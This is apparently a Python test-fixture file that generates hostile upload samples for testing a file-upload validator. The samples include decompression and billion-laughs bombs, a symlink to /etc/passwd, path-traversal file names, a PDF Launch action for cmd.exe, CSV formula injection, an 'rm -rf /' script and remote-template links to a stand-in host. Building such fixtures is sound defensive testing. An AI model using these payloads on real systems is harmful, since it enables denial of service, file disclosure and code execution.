"""Forty and more files that attack: each is made here, none is stored in the project."""

import io
import stat
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.pages.attack_pdfs import (
    JAVASCRIPT,
    action,
    deep_pdf,
    pdf,
    pdf_with_file,
    pdf_with_hidden_script,
    pdf_with_password,
    swollen_pdf,
    zeros,
)

MARK = b"<script>attack()</script>"
# The test text of the antivirus industry, in two halves so that this file is not found itself.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD" + rb"-ANTIVIRUS-TEST-FILE!$H+H*"
OOXML = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    f'<Override PartName="/word/document.xml" ContentType="{OOXML}.main+xml"/></Types>'
).encode()
DOCX = {"[Content_Types].xml": TYPES, "word/document.xml": b"<w/>"}
RELATION = (
    '<Relationships xmlns="urn:r">'
    '<Relationship Id="r1" Type="urn:{}" Target="{}" TargetMode="External"/></Relationships>'
)
ODT_KIND = b"application/vnd.oasis.opendocument.text"
ODT = {"mimetype": ODT_KIND, "content.xml": b"<x/>"}
SPREADSHEET = b"application/vnd.oasis.opendocument.spreadsheet"


@dataclass(frozen=True)
class Attack:
    """A file, the door it is sent to, and whether it may be stored once it is made harmless."""

    name: str
    content: bytes
    door: str = "documents"
    stored: bool = False


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: object) -> bytes:
    """Return a small picture."""
    stream = io.BytesIO()
    Image.new(mode, size, 90).save(stream, kind, **options)
    return stream.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_bomb(side: int) -> bytes:
    """Return a PNG whose header promises side × side pixels and whose data is tiny."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((side // 8 + 1) * side), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def lying_jpeg() -> bytes:
    """Return a JPEG whose header promises 65,000 × 65,000 pixels."""
    content = bytearray(picture("JPEG"))
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(content)


def text_bomb() -> bytes:
    """Return a PNG with a compressed text of 200 MB."""
    content = picture()
    text = b"Comment\0\0" + zeros(200_000_000)
    return content[:33] + chunk(b"zTXt", text) + content[33:]


def talking_png() -> bytes:
    """Return a PNG whose text holds a script."""
    info = PngInfo()
    info.add_text("Comment", MARK.decode())
    return picture(pnginfo=info)


def frames(kind: str, count: int) -> bytes:
    """Return a moving picture whose frames together are a bomb."""
    stream = io.BytesIO()
    made = [Image.new("L", (1000, 1000), n * 4 % 256) for n in range(count)]
    made[0].save(stream, kind, save_all=True, append_images=made[1:])
    return stream.getvalue()


def archive(parts: dict[str, bytes], comment: bytes = b"") -> bytes:
    """Return a zip archive."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
        target.comment = comment
    return stream.getvalue()


def zip_bomb() -> bytes:
    """Return a Word file that unpacks to more than 200 MB."""
    stream = io.BytesIO(archive(DOCX))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as target, target.open("word/media/zero", "w") as part:
        for _turn in range(201):
            part.write(bytes(1024 * 1024))
    return stream.getvalue()


def with_symlink() -> bytes:
    """Return a Word file with a symbolic link."""
    stream = io.BytesIO(archive(DOCX))
    with zipfile.ZipFile(stream, "a") as target:
        entry = zipfile.ZipInfo("word/link")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        target.writestr(entry, "/etc/passwd")
    return stream.getvalue()


def locked() -> bytes:
    """Return a Word file whose entries say that they are encrypted."""
    content = bytearray(archive(DOCX))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def blown_up() -> bytes:
    """Return the XML of a billion laughs."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY l0 "ha">{entities}]><Types>&l9;</Types>'.encode()


MANIFEST = b'<m xmlns:x="urn:manifest"><x:encryption-data/></m>'
PICTURES = [
    Attack("script.png", MARK),
    Attack("jpeg.png", picture("JPEG")),
    Attack("moving.png", picture("GIF", mode="L")),
    Attack("cut.gif", picture("GIF", (400, 400), mode="L")[:60]),
    Attack("cut-gif.png", picture("GIF", (400, 400), mode="L")[:60]),
    Attack("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + MARK + b"</svg>"),
    Attack("drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg'>" + MARK + b"</svg>"),
    Attack("empty.png", b""),
    Attack("cut.png", picture()[:40]),
    Attack("cut.jpg", picture("JPEG", (400, 400))[:300]),
    Attack("cut.webp", picture("WEBP", (400, 400))[:60]),
    Attack("bomb.png", pixel_bomb(12_000)),
    Attack("lie.jpg", lying_jpeg()),
    Attack("text-bomb.png", text_bomb()),
    Attack("frames.webp", frames("WEBP", 60)),
    Attack("tiff.jpg", picture("TIFF")),
    Attack("icon.png", picture("ICO")),
    Attack("photo.jpg.html", picture("JPEG")),
    Attack("photo.php", picture("PNG")),
    Attack("zip.jpg", picture("JPEG") + archive({"run.js": MARK}), stored=True),
    Attack("html.jpg", picture("JPEG", comment=MARK) + MARK, stored=True),
    Attack("text.png", talking_png(), stored=True),
    Attack("../../climb.png", picture() + MARK, stored=True),
]
DOCUMENTS = [
    Attack("page.pdf", b"<html>" + MARK + b"</html>"),
    Attack("program.pdf", b"MZ\x90\x00" + b"\0" * 200),
    Attack("opens.pdf", pdf(OpenAction=JAVASCRIPT)),
    Attack("hidden.pdf", pdf_with_hidden_script()),
    Attack("launch.pdf", pdf(OpenAction=action("Launch", F=TextStringObject("cmd.exe")))),
    Attack("carries.pdf", pdf_with_file()),
    Attack("locked.pdf", pdf_with_password()),
    Attack("form.pdf", pdf(AcroForm=DictionaryObject({NameObject("/XFA"): ArrayObject()}))),
    Attack("zip.pdf", pdf() + archive({"run.js": MARK})),
    Attack("late.pdf", MARK * 20 + pdf()),
    Attack("tail.pdf", pdf() + MARK * 100),
    Attack("deep.pdf", deep_pdf()),
    Attack("swollen.pdf", swollen_pdf()),
    Attack("cut.pdf", pdf()[:200]),
    Attack("zip.docx", archive({"readme.txt": b"x"})),
    Attack("macro.docx", archive({**DOCX, "word/vbaProject.bin": b"x"})),
    Attack("docm.docx", archive({**DOCX, "[Content_Types].xml": TYPES.replace(b"main+xml", b"macroEnabled.main+xml")})),
    Attack(
        "template.docx",
        archive(
            {**DOCX, "word/_rels/settings.xml.rels": RELATION.format("attachedTemplate", "http://x/a.dotm").encode()}
        ),
    ),
    Attack("object.docx", archive({**DOCX, "word/embeddings/oleObject1.bin": b"x"})),
    Attack("climb.docx", archive({**DOCX, "../evil": b"x"})),
    Attack("link.docx", with_symlink()),
    Attack("locked.docx", locked()),
    Attack("bomb.docx", zip_bomb()),
    Attack("many.docx", archive({**DOCX, **{f"word/{n}": b"" for n in range(2_001)}})),
    Attack("laughs.docx", archive({**DOCX, "[Content_Types].xml": blown_up()})),
    Attack("front.docx", b"MZ" + MARK + archive(DOCX)),
    Attack("comment.docx", archive(DOCX, comment=MARK)),
    Attack("script.odt", archive({**ODT, "content.xml": b'<x xmlns:s="urn:s"><s:event-listener/></x>'})),
    Attack("basic.odt", archive({**ODT, "Basic/Standard/Module1.xml": b"<x/>"})),
    Attack(
        "template.odt",
        archive({**ODT, "meta.xml": b'<m xmlns:l="urn:l"><m:template xmlns:m="urn:m" l:href="http://x/a.ott"/></m>'}),
    ),
    Attack("locked.odt", archive({**ODT, "META-INF/manifest.xml": MANIFEST})),
    Attack("table.odt", archive({**ODT, "mimetype": SPREADSHEET})),
    Attack("formula.csv", b"Name;Zahl\nA;=cmd|' /C calc'!A0\n"),
    Attack("call.csv", b'Name;Zahl\nA;"=HYPERLINK(""http://x"";""y"")"\n'),
    Attack("nul.csv", b"a;b\0c"),
    Attack("markup.csv", b"a;b\n1;" + MARK),
    Attack("latin.txt", "Grüße".encode("latin-1")),
    Attack("shell.txt", b"#!/bin/sh\nrm -rf /\n"),
    Attack("page.html", b"<p>" + MARK),
    Attack("pack.zip", archive({"a": b"b"})),
    Attack("empty.pdf", b""),
    Attack("photo.jpg", picture("JPEG") + archive({"run.js": MARK}), stored=True),
    Attack("eicar.txt", EICAR, stored=True),
]
ATTACKS = [Attack(a.name, a.content, "images", a.stored) for a in PICTURES] + DOCUMENTS
